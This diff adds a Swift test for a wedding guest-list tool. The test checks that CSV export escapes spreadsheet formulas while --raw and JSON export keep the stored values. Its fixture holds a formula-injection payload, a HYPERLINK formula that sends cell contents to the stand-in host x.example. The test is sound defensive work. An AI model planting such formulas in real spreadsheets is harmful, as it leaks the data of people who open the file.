@@ -109,6 +109,29 @@ struct CommandLineTests {
         #expect(try target.run(["export", "guests"]).stdout == exported.stdout)
     }
 
+    @Test("CSV export writes formulas as text for spreadsheets, --raw as stored, and either imports back as typed")
+    func exportNeutralisesFormulas() throws {
+        let blueprint = try BlueprintProcess.withTemporaryDataDirectory()
+        #expect(try blueprint.run(["wedding", "create", "Ana & Ben"]).status == 0)
+        let hostile = try blueprint.file(named: "rsvp.csv", """
+            First Name,Last Name,Phone,Notes
+            "=HYPERLINK(""http://x.example/?a=""&A1;""click"")",Ng,+1 555 0100,@SUM(1+1)
+            """)
+        #expect(try blueprint.run(["import", "guests", hostile]).status == 0)
+        let safe = try blueprint.run(["export", "guests"])
+        #expect(safe.stdout.contains("\"'=HYPERLINK(\"\"http://x.example/?a=\"\"&A1;\"\"click\"\")\","), "\(safe.stdout)")
+        #expect(safe.stdout.contains(",'+1 555 0100,") && safe.stdout.hasSuffix(",'@SUM(1+1)\n"), "\(safe.stdout)")
+        let raw = try blueprint.run(["export", "guests", "--raw"])
+        #expect(raw.stdout.contains(",+1 555 0100,") && raw.stdout.hasSuffix(",@SUM(1+1)\n"), "\(raw.stdout)")
+        let json = try blueprint.run(["export", "guests", "--format", "json"])
+        #expect(json.stdout.contains("\"notes\" : \"@SUM(1+1)\""), "\(json.stdout)")
+
+        let target = try BlueprintProcess.withTemporaryDataDirectory()
+        #expect(try target.run(["wedding", "create", "Ana & Ben"]).status == 0)
+        #expect(try target.run(["import", "guests", try target.file(named: "safe.csv", safe.stdout)]).status == 0)
+        #expect(try target.run(["export", "guests", "--raw"]).stdout == raw.stdout)
+    }
+
     @Test("export -o writes a private file; JSON export has every guest")
     func exportToFile() throws {
         let blueprint = try BlueprintProcess.withTemporaryDataDirectory()
